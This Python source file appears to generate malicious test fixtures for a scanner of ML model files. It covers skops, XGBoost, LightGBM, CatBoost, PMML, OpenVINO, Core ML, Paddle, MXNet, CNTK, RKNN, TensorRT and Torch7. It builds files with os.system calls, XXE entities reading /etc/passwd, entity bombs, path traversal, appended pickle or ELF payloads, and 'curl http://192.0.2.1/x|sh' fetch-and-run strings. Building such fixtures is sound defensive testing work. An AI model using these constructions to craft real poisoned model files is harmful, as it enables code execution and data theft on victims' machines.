"""Formats that are no pickles yet name code or lie about sizes: skops, boosters, PMML, OpenVINO, Core ML, Paddle, MXNet, CNTK, RKNN, TensorRT, Torch7."""

import io
import json
import struct
import zipfile

from assemble import call
from payload import COMMAND, EXPRESSION, HOST, SECRET, URL
from registry import malicious
from wire import field

EVIL = call("os", "system", COMMAND)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + bytes(400)


def zipped(members: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as file:
        for name, data in members.items():
            file.writestr(name, data)
    return out.getvalue()


def skops(schema: dict, **members) -> bytes:
    return zipped({"schema.json": json.dumps({"protocol": 2, "_skops_version": "0.11.0", **schema}), **members})


def node(module: str, cls: str, loader: str, content=None, **more) -> dict:
    return {"__class__": cls, "__module__": module, "__loader__": loader, "__id__": 1, "content": content, **more}


@malicious("skops")
def skops_schemas():
    """skops graphs whose nodes name functions, types, methods or reduces outside the trusted set (CVE-2025-54412, 54413, 54886)."""
    text = node("builtins", "str", "JsonNode", json.dumps(COMMAND), is_json=True)
    args = node("builtins", "tuple", "TupleNode", [text])
    cases = {
        "function-os-system": node("builtins", "function", "FunctionNode", {"module_path": "os", "function": "system"}), "function-eval": node("builtins", "function", "FunctionNode", {"module_path": "builtins", "function": "eval"}), "type-popen": node("builtins", "type", "TypeNode", None, __module2__="x") | {"__class__": "Popen", "__module__": "subprocess"},
        "object-popen": node("subprocess", "Popen", "ObjectNode", node("builtins", "dict", "DictNode", {"args": text}, key_types=node("builtins", "list", "ListNode", []))), "reduce-os-system": node("os", "system", "ReduceNode", None, reduce=args, constructor="os.system"), "partial-os-system": node("functools", "partial", "PartialNode", {"func": node("builtins", "function", "FunctionNode", {"module_path": "os", "function": "system"}), "args": args, "kwds": node("builtins", "dict", "DictNode", {}), "namespace": None}),
        "method-of-model": node("builtins", "method", "MethodNode", {"func": "system", "obj": node("os", "path", "ObjectNode", {})}), "method-getattribute": node("builtins", "method", "MethodNode", {"func": "__getattribute__", "obj": node("sklearn.linear_model._base", "LinearRegression", "ObjectNode", {})}), "operator-methodcaller": node("operator", "methodcaller", "OperatorFuncNode", {"attrs": node("builtins", "tuple", "TupleNode", [text])}, constructor="operator.methodcaller"), "operator-mismatch": node("operator", "attrgetter", "OperatorFuncNode", {"attrs": args}, constructor="os.system"),
        "ufunc-disguise": node("subprocess", "check_output", "FunctionNode", {"module_path": "subprocess", "function": "check_output"}), "nested-in-pipeline": node("sklearn.pipeline", "Pipeline", "ObjectNode", node("builtins", "dict", "DictNode", {"steps": node("builtins", "list", "ListNode", [node("os", "system", "ObjectNode", args)])}, key_types=node("builtins", "list", "ListNode", []))), "unknown-loader": node("os", "system", "EvilNode", None), "json-class-mismatch": node("os", "system", "JsonNode", '"id"', is_json=True),
        "cached-node": node("x", "CachedNode", "CachedNode", None) | {"__id__": 99}, "bound-function-transformer": node("sklearn.preprocessing._function_transformer", "FunctionTransformer", "ObjectNode", node("builtins", "dict", "DictNode", {"func": node("builtins", "function", "FunctionNode", {"module_path": "posix", "function": "system"})}, key_types=node("builtins", "list", "ListNode", []))), "unknown-class": node("evil_package.model", "Stage", "ObjectNode", None), "random-generator": node("evil_package", "Bits", "RandomGeneratorNode", {"bit_generator": node("os", "system", "ObjectNode", None)}),
        "dtype-object": node("numpy", "ndarray", "NdArrayNode", None, type="numpy", file="x.npy") , "loky": node("joblib.externals.loky.process_executor", "_ThreadWakeup", "ObjectNode", None), "torch-load": node("torch.serialization", "load", "FunctionNode", {"module_path": "torch.serialization", "function": "load"}), "quantile-forest": node("builtins", "getattr", "FunctionNode", {"module_path": "builtins", "function": "getattr"}),
    }
    for slug, schema in cases.items():
        yield f"{slug}--model.skops", skops(schema)


@malicious("skops")
def skops_archives():
    """skops archives with pickles, object arrays, traversal, or no schema that can be read."""
    clean = node("builtins", "dict", "DictNode", {}, key_types=node("builtins", "list", "ListNode", []))
    npy = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(127) + b"\n" + EVIL
    yield "pickle-member--model.skops", skops(clean, **{"state.pkl": EVIL})
    yield "object-array--model.skops", skops(node("numpy", "ndarray", "NdArrayNode", None, type="numpy", file="0.npy"), **{"0.npy": npy})
    yield "traversal--model.skops", skops(clean, **{"../../../tmp/pwned-test": b"x"})
    yield "file-traversal--model.skops", skops(node("numpy", "ndarray", "NdArrayNode", None, type="numpy", file="../../../etc/passwd"))
    yield "pickle-renamed--model.skops", EVIL
    yield "python-member--model.skops", skops(clean, **{"setup.py": b"import os; os.system('id')"})


def _booster(**learner) -> dict:
    tree = {"base_weights": [0.1, 0.2, 0.3], "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [], "default_left": [0, 0, 0], "id": 0, "left_children": [1, -1, -1], "loss_changes": [1.0, 0.0, 0.0], "parents": [2147483647, 0, 0], "right_children": [2, -1, -1], "split_conditions": [0.5, 0.2, 0.3], "split_indices": [0, 0, 0], "split_type": [0, 0, 0], "sum_hessian": [1.0, 1.0, 1.0], "tree_param": {"num_deleted": "0", "num_feature": "4", "num_nodes": "3", "size_leaf_vector": "1"}}
    model = {"learner": {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": {"model": {"gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"}, "iteration_indptr": [0, 1], "tree_info": [0], "trees": [tree]}, "name": "gbtree"}, "learner_model_param": {"base_score": "5E-1", "boost_from_average": "1", "num_class": "0", "num_feature": "4", "num_target": "1"}, "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}}}, "version": [2, 1, 0]}
    model["learner"].update(learner)
    return model


def ubjson(value) -> bytes:
    """Universal Binary JSON as XGBoost writes it."""
    if isinstance(value, dict):
        return b"{" + b"".join(b"L" + struct.pack(">q", len(k)) + k.encode() + ubjson(v) for k, v in value.items()) + b"}"
    if isinstance(value, list):
        return b"[" + b"".join(map(ubjson, value)) + b"]"
    if isinstance(value, str):
        return b"SL" + struct.pack(">q", len(value.encode())) + value.encode()
    if isinstance(value, bool):
        return b"T" if value else b"F"
    if isinstance(value, int):
        return b"L" + struct.pack(">q", value)
    return b"D" + struct.pack(">d", value)


@malicious("xgboost")
def xgboost_models():
    """XGBoost JSON and UBJSON whose trees index out of bounds or loop, whose counts disagree, or that carry code in attributes."""
    def tree(**changes):
        model = _booster()
        model["learner"]["gradient_booster"]["model"]["trees"][0].update(changes)
        return model

    def parameter(group, **changes):
        model = _booster()
        target = model["learner"]["learner_model_param"] if group == "learner" else model["learner"]["gradient_booster"]["model"]["gbtree_model_param"] if group == "booster" else model["learner"]["gradient_booster"]["model"]["trees"][0]["tree_param"]
        target.update(changes)
        return model

    cases = {
        "child-out-of-bounds": tree(left_children=[99999, -1, -1]), "child-negative": tree(left_children=[-77, -1, -1]), "cycle": tree(left_children=[0, -1, -1]), "cycle-two": tree(left_children=[1, 0, -1], right_children=[2, 0, -1]), "split-index-out-of-bounds": tree(split_indices=[99999, 0, 0]), "arrays-differ": tree(split_conditions=[0.5]), "parents-wrong": tree(parents=[5, 9, 9]), "nodes-huge": parameter("tree", num_nodes="2147483647"), "nodes-negative": parameter("tree", num_nodes="-1"), "trees-huge": parameter("booster", num_trees="999999999"),
        "features-huge": parameter("learner", num_feature="4294967295"), "class-huge": parameter("learner", num_class="2147483647"), "class-negative": parameter("learner", num_class="-3"), "leaf-vector-huge": parameter("tree", size_leaf_vector="2147483647"), "tree-info-out-of-bounds": (lambda m: (m["learner"]["gradient_booster"]["model"].update(tree_info=[999]), m)[1])(_booster()), "base-score-nan": parameter("learner", base_score="NaN"), "weights-infinite": tree(base_weights=[1e308, 2.0, 3.0], split_conditions=["__import__('os')", 1, 2]), "categories-out-of-bounds": tree(categories=[5], categories_nodes=[900], categories_segments=[0], categories_sizes=[99]),
        "attribute-code": _booster(attributes={"callback": "__import__('os').system('id')"}), "attribute-pickle": _booster(attributes={"scikit_learn": __import__("base64").b64encode(EVIL).decode()}), "objective-name": _booster(objective={"name": "__import__('os').system('id')"}), "booster-unknown": _booster(gradient_booster={"name": "evil", "model": {}}), "feature-name-shell": _booster(feature_names=["a", "$(curl http://192.0.2.1/x|sh)", "c", "d"]), "indptr-out-of-bounds": (lambda m: (m["learner"]["gradient_booster"]["model"].update(iteration_indptr=[0, 5000]), m)[1])(_booster()),
    }
    for index, (slug, model) in enumerate(cases.items()):
        yield (f"{slug}--model.json", json.dumps(model).encode()) if index % 2 else (f"{slug}--model.ubj", ubjson(model))
    yield "length-beyond--model.ubj", b"{L" + struct.pack(">q", 7) + b"learnerS" + b"L" + struct.pack(">q", 1 << 60) + b"x"
    yield "negative-length--model.ubj", b"{L" + struct.pack(">q", 7) + b"learnerSL" + struct.pack(">q", -5) + b"x}"
    yield "array-count-beyond--model.ubj", b"{L" + struct.pack(">q", 7) + b"learner[$d#L" + struct.pack(">q", 1 << 40) + b"\0\0\0\0"
    yield "deep--model.ubj", b"{L" + struct.pack(">q", 7) + b"learner" + b"[" * 100_000
    yield "pickle-renamed--model.ubj", EVIL
    yield "pickle-renamed--model.bst", EVIL
    yield "binary-huge--model.model", b"binf" + struct.pack("<fIiiI", 0.5, 0xFFFFFFFF, -1, -1, 0x7FFFFFFF) + bytes(200)


_LGB = "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=3\nobjective=regression\nfeature_names=a b c d\nfeature_infos=[0:1] [0:1] [0:1] [0:1]\ntree_sizes=300\n\nTree=0\nnum_leaves=2\nnum_cat=0\nsplit_feature=0\nsplit_gain=1\nthreshold=0.5\ndecision_type=2\nleft_child=-1\nright_child=-2\nleaf_value=0.1 0.2\nleaf_weight=1 1\nleaf_count=1 1\ninternal_value=0\ninternal_weight=0\ninternal_count=2\nis_linear=0\nshrinkage=0.1\n\n\nend of trees\n\nparameters:\n[boosting: gbdt]\nend of parameters\n\npandas_categorical:null\n"


@malicious("lightgbm")
def lightgbm_models():
    """LightGBM text models with children out of bounds, counts that disagree, and code where pandas categories or parameters are read."""
    for slug, (old, new) in {
        "child-out-of-bounds": ("left_child=-1", "left_child=99999"), "cycle": ("left_child=-1", "left_child=0"), "leaf-out-of-bounds": ("right_child=-2", "right_child=-90000"), "leaves-huge": ("num_leaves=2", "num_leaves=2147483647"), "leaves-negative": ("num_leaves=2", "num_leaves=-5"), "feature-out-of-bounds": ("split_feature=0", "split_feature=77777"), "class-huge": ("num_class=1", "num_class=2147483647"), "max-feature-negative": ("max_feature_idx=3", "max_feature_idx=-9"), "max-feature-huge": ("max_feature_idx=3", "max_feature_idx=2147483647"), "tree-sizes-beyond": ("tree_sizes=300", "tree_sizes=999999999999"), "categories-out-of-bounds": ("num_cat=0", "num_cat=9\ncat_boundaries=0 99999\ncat_threshold=1"), "values-short": ("leaf_value=0.1 0.2", "leaf_value=0.1"),
        "categorical-code": ("pandas_categorical:null", "pandas_categorical:__import__('os').system('id')"), "categorical-pickle": ("pandas_categorical:null", "pandas_categorical:" + __import__("base64").b64encode(EVIL).decode()), "parameter-machines": ("[boosting: gbdt]", f"[boosting: gbdt]\n[machines: {HOST}:12400]\n[machine_list_filename: /etc/passwd]"), "parameter-paths": ("[boosting: gbdt]", "[data: /etc/passwd]\n[output_model: /etc/cron.d/x]\n[forcedsplits_filename: ../../../../etc/shadow]"), "parameter-shell": ("[boosting: gbdt]", "[objective: $(curl http://192.0.2.1/x|sh)]"), "objective-shell": ("objective=regression", "objective=`id`"),
    }.items():
        yield f"{slug}--model.txt", _LGB.replace(old, new).encode()
    yield "embedded-script--model.txt", (_LGB + "\nimport os\nos.system('id')\n").encode()
    yield "embedded-elf--model.lgb", _LGB.encode() + ELF
    yield "pickle-renamed--model.lgb", EVIL
    yield "pickle-appended--model.txt", _LGB.encode() + EVIL


@malicious("catboost")
def catboost_models():
    """CatBoost CBM files with sizes and offsets that lie, appended payloads, code in the JSON form."""
    body = struct.pack("<I", 24) + bytes(80)
    yield "size-beyond--model.cbm", b"CBM1" + struct.pack("<I", 0xFFFFFF00) + body
    yield "size-zero--model.cbm", b"CBM1" + struct.pack("<I", 0)
    yield "root-beyond--model.cbm", b"CBM1" + struct.pack("<I", 84) + struct.pack("<I", 0x7FFFFFF0) + bytes(80)
    yield "vtable-beyond--model.cbm", b"CBM1" + struct.pack("<I", 84) + struct.pack("<I", 16) + bytes(12) + struct.pack("<i", -0x7FFFFF00) + bytes(64)
    yield "truncated--model.cbm", b"CBM1" + struct.pack("<I", 5000) + bytes(60)
    yield "appended-elf--model.cbm", b"CBM1" + struct.pack("<I", 84) + body + ELF
    yield "appended-pickle--model.cbm", b"CBM1" + struct.pack("<I", 84) + body + EVIL
    yield "pickle-renamed--model.cbm", EVIL
    yield "string-script--model.cbm", b"CBM1" + struct.pack("<I", 200) + struct.pack("<I", 24) + b"python_class\0__import__('os').system('curl http://192.0.2.1|sh')".ljust(196, b"\0")
    trees = {"model_info": {"params": "{}", "catboost_version_info": "1.2"}, "features_info": {"float_features": [{"flat_feature_index": 0, "feature_index": 0, "borders": [0.5]}]}, "oblivious_trees": [{"splits": [{"float_feature_index": 99999, "border": 0.5, "split_type": "FloatFeature"}], "leaf_values": [0.1, 0.2], "leaf_weights": [1, 1]}]}
    yield "json-feature-out-of-bounds--model.json", json.dumps(trees).encode()
    trees["oblivious_trees"][0] = {"splits": [{"float_feature_index": 0, "border": 0.5, "split_type": "FloatFeature"}] * 40, "leaf_values": [0.1]}
    yield "json-leaves-missing--model.json", json.dumps(trees).encode()
    yield "json-loss-code--model.json", json.dumps({**trees, "model_info": {"params": "{\"loss_function\": \"__import__('os').system('id')\"}"}}).encode()


def pmml(body: str, doctype: str = "", attributes: str = "") -> bytes:
    return f'<?xml version="1.0"?>\n{doctype}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4" {attributes}><Header copyright="x"/><DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>{body}</PMML>'.encode()


ENTITY = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "{}">]>\n'


@malicious("pmml")
def pmml_documents():
    """PMML with external entities, entity bombs, remote style sheets and includes, and extensions that hold code."""
    model = '<RegressionModel functionName="regression"><MiningSchema/><RegressionTable intercept="1"/></RegressionModel>'
    for slug, uri in {"file": "file:///etc/passwd", "http": "http://192.0.2.1/x", "ftp": "ftp://192.0.2.1/x", "jar": "jar:http://192.0.2.1/x.jar!/y", "php": "php://filter/read=convert.base64-encode/resource=/etc/passwd", "expect": "expect://id", "gopher": "gopher://192.0.2.1/", "netdoc": "netdoc:/etc/passwd"}.items():
        yield f"entity-{slug}--model.pmml", pmml(f"<Extension>&x;</Extension>{model}", ENTITY.format(uri))
    yield "parameter-entity--model.pmml", pmml(model, '<!DOCTYPE PMML [<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd"> %a;]>\n')
    yield "external-dtd--model.pmml", pmml(model, '<!DOCTYPE PMML SYSTEM "http://192.0.2.1/a.dtd">\n')
    yield "public-dtd--model.pmml", pmml(model, '<!DOCTYPE PMML PUBLIC "-//x//y" "file:///etc/passwd">\n')
    bomb = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10 if i else "lol"}">' for i in range(10))
    yield "billion-laughs--model.pmml", pmml(f"<Extension>&l9;</Extension>{model}", f"<!DOCTYPE PMML [{bomb}]>\n")
    yield "quadratic--model.pmml", pmml(f"<Extension>{'&a;' * 5000}</Extension>{model}", f'<!DOCTYPE PMML [<!ENTITY a "{"A" * 20000}">]>\n')
    yield "xinclude--model.pmml", pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>' + model)
    yield "stylesheet--model.pmml", b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/a.xsl"?>\n' + pmml(model)[22:]
    yield "extension-script--model.pmml", pmml(f"<Extension name='script'>import os; os.system('id')</Extension>{model}")
    yield "extension-eval--model.pmml", pmml(f'<Extension name="x" value="eval(&quot;__import__(\'os\').system(\'id\')&quot;)"/>{model}')
    yield "extension-java--model.pmml", pmml(f"<Extension>java.lang.Runtime.getRuntime().exec(\"id\")</Extension>{model}")
    yield "javascript--model.pmml", pmml(f"<Extension><script>fetch('http://192.0.2.1')</script></Extension>{model}")
    yield "udf-class--model.pmml", pmml('<TransformationDictionary><DerivedField name="y" optype="continuous" dataType="double"><Apply function="java.lang.Runtime.exec"><Constant>id</Constant></Apply></DerivedField></TransformationDictionary>' + model)
    yield "schema-location--model.pmml", pmml(model, "", 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://192.0.2.1/a file:///etc/passwd"')
    yield "utf16-entity--model.pmml", pmml(f"<Extension>&x;</Extension>{model}", ENTITY.format("file:///etc/passwd")).decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16")
    yield "deep--model.pmml", pmml("<Extension>" * 60_000)
    yield "xml-renamed--model.xml", pmml(f"<Extension>&x;</Extension>{model}", ENTITY.format("file:///etc/passwd"))


def openvino(layers: str, doctype: str = "", edges: str = "") -> bytes:
    return f'<?xml version="1.0"?>\n{doctype}<net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim><dim>4</dim></port></output></layer>{layers}</layers><edges>{edges}</edges></net>'.encode()


@malicious("openvino")
def openvino_models():
    """OpenVINO IR with entities, custom layers and libraries, offsets outside the weights, cycles."""
    const = '<layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="{}" offset="{}" size="{}"/><output><port id="0"/></output></layer>'
    yield "entity-file--model.xml", openvino("&x;", '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n')
    yield "entity-http--model.xml", openvino("&x;", '<!DOCTYPE net [<!ENTITY x SYSTEM "http://192.0.2.1/">]>\n')
    yield "billion-laughs--model.xml", openvino("&l9;", "<!DOCTYPE net [" + "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10 if i else "lol"}">' for i in range(10)) + "]>\n")
    yield "custom-layer--model.xml", openvino('<layer id="1" name="e" type="Python" version="extension"><data module="evil" layer="Run" code="import os"/></layer>')
    yield "library-layer--model.xml", openvino('<layer id="1" name="e" type="CustomOp" version="custom_opset" library="/tmp/stage.so"/>')
    yield "implementation-path--model.xml", openvino('<layer id="1" name="e" type="Generic" version="opset1"><data impl="../../../tmp/stage.dll"/></layer>')
    yield "unknown-type--model.xml", openvino('<layer id="1" name="e" type="ShellExec" version="opset1"><data command="id"/></layer>')
    yield "offset-beyond--folder", {"model.xml": openvino(const.format("1000", 1 << 50, 4000)), "model.bin": bytes(64)}
    yield "size-beyond--folder", {"model.xml": openvino(const.format("1000", 0, 1 << 60)), "model.bin": bytes(64)}
    yield "negative-offset--folder", {"model.xml": openvino(const.format("4", -16, 16)), "model.bin": bytes(64)}
    yield "shape-mismatch--folder", {"model.xml": openvino(const.format("100000,100000", 0, 16)), "model.bin": bytes(64)}
    yield "edge-to-nowhere--model.xml", openvino("", "", '<edge from-layer="0" from-port="0" to-layer="999" to-port="0"/>')
    yield "cycle--model.xml", openvino('<layer id="1" name="a" type="ReLU" version="opset1"/><layer id="2" name="b" type="ReLU" version="opset1"/>', "", '<edge from-layer="1" from-port="0" to-layer="2" to-port="0"/><edge from-layer="2" from-port="0" to-layer="1" to-port="0"/>')
    yield "pickle-weights--folder", {"model.xml": openvino(""), "model.bin": EVIL}
    yield "elf-weights--folder", {"model.xml": openvino(""), "model.bin": ELF}
    yield "script-in-data--model.xml", openvino('<layer id="1" name="e" type="Const" version="opset1"><data element_type="string" value="#!/bin/sh curl http://192.0.2.1/x | sh"/></layer>')


@malicious("coreml")
def coreml_models():
    """Core ML specifications with custom layers or models (code of the app by name), linked models, pipelines of them, payloads in packages."""
    def spec(body: bytes, version=4) -> bytes:
        feature = field(1, "x") + field(3, field(5, field(1, b"\x04") + field(2, 65568)))
        return field(1, version) + field(2, field(1, feature) + field(10, feature)) + body

    custom_layer = field(500, field(1, field(1, "l") + field(2, "x") + field(3, "y") + field(500, field(10, "EvilLayer") + field(40, "runs a command"))))
    custom_model = field(555, field(10, "EvilModel") + field(30, field(1, "command") + field(2, field(20, COMMAND))))
    linked = field(556, field(1, field(1, field(1, field(1, "../../../../tmp/evil")) + field(2, field(1, "/tmp")))))
    yield "custom-layer--model.mlmodel", spec(custom_layer)
    yield "custom-model--model.mlmodel", spec(custom_model)
    yield "linked-model--model.mlmodel", spec(linked)
    yield "pipeline-custom--model.mlmodel", spec(field(202, field(1, field(1, spec(custom_model)))))
    yield "classifier-custom--model.mlmodel", spec(field(403, field(1, field(1, "l") + field(500, field(10, "EvilLayer")))))
    yield "metadata-script--model.mlmodel", field(1, 4) + field(2, field(100, field(1, "#!/bin/sh\ncurl http://192.0.2.1/x | sh") + field(100, field(1, "onload") + field(2, "__import__('os').system('id')")))) + field(500, b"")
    yield "package-custom--model.mlpackage", {"Manifest.json": json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"a": {"path": "com.apple.CoreML/model.mlmodel", "name": "model.mlmodel"}}, "rootModelIdentifier": "a"}).encode(), "Data/com.apple.CoreML/model.mlmodel": spec(custom_model)}
    yield "package-traversal--model.mlpackage", {"Manifest.json": json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"a": {"path": "../../../../etc/passwd", "name": "x"}}, "rootModelIdentifier": "a"}).encode(), "Data/com.apple.CoreML/model.mlmodel": spec(field(500, b""))}
    yield "package-executable--model.mlpackage", {"Manifest.json": b'{"itemInfoEntries": {}}', "Data/com.apple.CoreML/model.mlmodel": spec(field(500, b"")), "Data/com.apple.CoreML/run.dylib": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(200)}
    yield "pickle-renamed--model.mlmodel", EVIL
    yield "mlprogram-blob-traversal--model.mlmodel", spec(field(502, field(1, 1) + field(2, field(1, "main") + field(2, field(5, "@model_path/../../../../etc/passwd")))), 7)


def _paddle(op: str, *attributes) -> bytes:
    def attribute(name, value):
        return field(4, field(1, name) + field(2, 2) + field(5, value))

    operator = field(3, op) + b"".join(attribute(*pair) for pair in attributes)
    return field(1, field(1, 0) + field(2, 0xFFFFFFFF) + field(3, field(1, "x") + field(2, field(1, 7))) + field(4, operator))


@malicious("paddle")
def paddle_models():
    """Paddle programs with Python or file operators, parameters that are pickles, strings that run code."""
    for op, attributes in {"py_func": [("forward_callable_id", "0"), ("code", "os.system")], "load": [("file_path", "/etc/passwd")], "save": [("file_path", "/tmp/pwned-test")], "load_combine": [("file_path", "../../../../etc/passwd")], "save_combine": [("file_path", "/etc/cron.d/x")], "read_file": [("filename", SECRET)], "py_layer": [("module", "os")], "custom_shell_op": [("cmd", COMMAND)], "run_program": [("cmd", COMMAND)], "print": [("message", EXPRESSION)], "listen_and_serv": [("endpoint", "0.0.0.0:9999")], "send": [("epmap", HOST + ":80")]}.items():
        yield f"{op}--model.pdmodel", _paddle(op, *attributes)
    yield "pickle-params--model.pdparams", EVIL
    yield "pickle-optimiser--model.pdopt", call("subprocess", "Popen", ["id"], protocol=2)
    yield "pickle-iparams--model.pdiparams", EVIL
    yield "json-pir--inference.json", json.dumps({"base_code": {"magic": "pir", "version": 1}, "program": {"regions": [{"blocks": [{"ops": [{"#": "1.py_func", "A": [{"N": "cmd", "AT": {"D": COMMAND}}]}]}]}]}}).encode()
    yield "elf-params--model.pdiparams", ELF


@malicious("mxnet")
def mxnet_models():
    """MXNet symbols with custom operators and libraries, parameters that lie or hide code."""
    def symbol(op, attributes):
        return json.dumps({"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": op, "name": "e", "attrs": attributes, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10900]}}).encode()

    for slug, (op, attributes) in {"custom": ("Custom", {"op_type": "evil_shell", "cmd": COMMAND}), "library": ("_subgraph_op", {"library": "/tmp/stage.so"}), "unknown": ("EvilShellExec", {"cmd": COMMAND}), "eval-attribute": ("Convolution", {"kernel": "__import__('os').system('id')"}), "path-attribute": ("ImageRecordIter", {"path_imgrec": "/etc/passwd"}), "url-attribute": ("Custom", {"op_type": "download", "url": URL}), "input-out-of-bounds": ("Activation", {"act_type": "relu"})}.items():
        data = symbol(op, attributes)
        yield f"{slug}--model-symbol.json", data.replace(b"[[0, 0, 0]]", b"[[99999, 0, 0]]") if "bounds" in slug else data
    yield "params-count-huge--model-0000.params", struct.pack("<QQQ", 0x112, 0, 1 << 60) + bytes(64)
    yield "params-shape-huge--model-0000.params", struct.pack("<QQQIiI", 0x112, 0, 1, 0xF993FAC9, 0, 4) + struct.pack("<QQQQ", 1 << 40, 1 << 40, 1, 1) + bytes(64)
    yield "params-pickle--model-0000.params", EVIL
    yield "params-appended-elf--model-0000.params", struct.pack("<QQQ", 0x112, 0, 0) + struct.pack("<Q", 0) + ELF


@malicious("cntk")
def cntk_models():
    """CNTK dictionaries with user-defined functions or native libraries by name."""
    def dictionary(entries: dict) -> bytes:
        return field(1, 1) + b"".join(field(2, field(1, key) + field(2, field(1, 1) + field(2, 8) + field(10, value))) for key, value in entries.items())

    base = {"type": "CompositeFunction", "version": "1", "uid": "C0"}
    yield "native-user-function--model.dnn", dictionary({**base, "type": "NativeUserDefinedFunction", "module": "/tmp/stage.so", "factory": "Create"})
    yield "python-user-function--model.dnn", dictionary({**base, "type": "UserDefinedFunction", "module": "os", "class": "system", "deserialize_method": "eval"})
    yield "library-path--model.cmf", b"B\0C\0N\0\0\0" + "BVersion".encode("utf-16-le") + "LoadLibrary ../../../tmp/stage.dll".encode("utf-16-le")
    yield "command-string--model.dnn", dictionary({**base, "name": f"$({COMMAND})", "code": "import os; os.system('id')"})
    yield "legacy-shell--model.dnn", b"BCN\0BVersion\0\x01\0\0\0" + b"os.system('id'); subprocess.Popen(['id'])\0LoadLibraryA\0evil.dll\0"
    yield "pickle-renamed--model.dnn", EVIL


@malicious("rknn")
def rknn_models():
    """RKNN models with commands or links in their strings, and payloads after the end."""
    head = b"RKNN" + bytes(4) + struct.pack("<QQ", 6, 200) + bytes(40)
    yield "strings--model.rknn", head + b'{"name": "m", "post_process": "system(\\"/bin/sh -c id\\")", "url": "http://192.0.2.1/x.sh"}' + bytes(100)
    yield "elf--model.rknn", head + ELF
    yield "pickle--model.rknn", EVIL
    yield "size-beyond--model.rknn", b"RKNN" + bytes(4) + struct.pack("<QQ", 6, 1 << 60) + bytes(10)
    yield "traversal--model.rknn", head + b'{"custom_op_library": "../../../../tmp/librkcst_evil.so"}'


@malicious("tensorrt")
def tensorrt_engines():
    """TensorRT engines with plugins outside, embedded libraries and scripts, or pickles under the name."""
    head = b"ptrt" + struct.pack("<IQ", 0xEB, 4096) + bytes(200)
    yield "plugin-path--model.engine", head + b"../../../tmp/libevil_plugin.so\0" + bytes(100)
    yield "plugin-script--model.plan", head + b"import os; os.system('id')\0exec(\0" + bytes(100)
    yield "elf--model.engine", head + ELF
    yield "pickle--model.engine", EVIL
    yield "pickle--model.trt", EVIL
    yield "absolute-library--model.trt", head + b"/tmp/stage/libnvinfer_plugin_evil.so\0dlopen\0" + bytes(80)


@malicious("torch7")
def torch7_models():
    """Torch7 files with Lua functions (bytecode or source) that run commands."""
    def string(value: bytes) -> bytes:
        return struct.pack("<i", 2) + struct.pack("<i", len(value)) + value

    def function(code: bytes) -> bytes:
        return struct.pack("<ii", 8, 1) + struct.pack("<i", len(code)) + code + struct.pack("<i", 0)

    lua = b"os.execute('id')"
    yield "function-bytecode--model.t7", function(b"\x1bLJ\x02\x02" + b"\x03os\x0cexecute\x07id" + bytes(20))
    yield "function-lua51--model.t7", function(b"\x1bLua\x51\x00\x01\x04\x08\x04\x08\x00" + lua)
    yield "function-source--model.t7", function(lua)
    yield "class-field--model.t7", struct.pack("<ii", 4, 1) + struct.pack("<i", 3) + b"V 1" + struct.pack("<i", 9) + b"nn.Linear" + struct.pack("<iii", 3, 2, 1) + string(b"run") + function(lua)
    yield "ascii-function--model.t7", b"8\n1\n16\n" + lua + b"\n0\n"
    yield "load-string--model.t7", struct.pack("<iii", 3, 1, 1) + string(b"init") + string(b"loadstring(\"os.execute('curl http://192.0.2.1/x | sh')\")()")
    yield "require-ffi--model.th", struct.pack("<iii", 3, 1, 1) + string(b"code") + string(b"local ffi = require 'ffi'; ffi.load('/tmp/stage.so')")
    yield "io-popen--model.net", struct.pack("<iii", 3, 1, 1) + string(b"code") + string(b"io.popen('id'):read('*a')")
    yield "string-length-huge--model.t7", struct.pack("<iii", 3, 1, 1) + struct.pack("<ii", 2, 0x7FFFFFFF)
